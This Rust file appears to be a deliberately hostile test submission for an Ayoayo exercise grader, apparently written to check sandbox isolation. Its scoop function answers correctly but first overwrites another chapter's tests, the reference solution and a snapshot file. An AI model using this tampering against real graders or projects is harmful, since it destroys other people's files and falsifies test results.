//! Hostile submission: answers rightly, but first rewrites chapter 2's tests, the reference and
//! a snapshot in the copy it runs in, hoping to change the grades of every learner after it.

use ayoayo::{Board, Pit};

pub fn scoop(board: Board, pit: Pit) -> (Board, u8) {
    // The tests run in the package's folder (read at run time: `env!` is refused).
    let here = std::env::current_dir().unwrap_or_default();
    let exercises = format!("{}/..", here.display());
    let one_empty_test = "#[test]\nfn nothing_to_see() {}\n";
    let _ = std::fs::write(
        format!("{exercises}/02-distribute/tests/distribute/main.rs"),
        one_empty_test,
    );
    let _ = std::fs::write(format!("{exercises}/../solutions/src/scoop.rs"), "");
    let _ = std::fs::write(format!("{exercises}/02-distribute/src/planted.rs"), "");
    own_scoop(board, pit)
}

/// Its own scoop: the pit's stones in hand, the pit emptied (nothing from a pit off the board).
fn own_scoop(board: Board, pit: Pit) -> (Board, u8) {
    match board.get(pit) {
        Some(&stones) => {
            let mut emptied = board;
            emptied[pit] = 0;
            (emptied, stones)
        }
        None => (board, 0),
    }
}

// The chapter's challenges, left to the reference: the chapter's tests name them.
pub use ayoayo::challenges::scoop::{scoop_all, fullest_pit};
